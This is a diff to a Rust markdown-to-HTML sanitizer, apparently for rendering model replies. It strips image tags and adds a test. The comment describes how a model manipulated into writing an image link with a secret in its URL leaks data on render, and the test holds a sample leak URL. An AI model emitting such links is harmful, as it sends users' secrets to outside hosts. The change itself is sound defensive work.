@@ -15,7 +15,10 @@ pub enum MdPart {
 }
 
 fn sanitize(html: &str) -> String {
+    // No images: a reply that embeds `![](https://host/?q=<secret>)` would send whatever the
+    // model was talked into writing to that host the moment it renders.
     ammonia::Builder::default()
+        .rm_tags(["img"])
         .link_rel(Some("noopener noreferrer nofollow"))
         .url_schemes(["http", "https", "mailto"].into_iter().collect())
         .clean(html)
@@ -134,6 +137,8 @@ mod tests {
         let MdPart::Html(h) = &parts[0] else { panic!("{parts:?}") };
         assert!(!h.contains("<script") && !h.contains("<img") && !h.contains("javascript:"), "{h}");
         assert!(h.contains("&lt;script&gt;"), "{h}");
+        let md_img = render("![x](https://example.com/?leak=1)");
+        assert!(md_img.iter().all(|p| !matches!(p, MdPart::Html(h) if h.contains("<img"))), "{md_img:?}");
     }
 
     #[test]
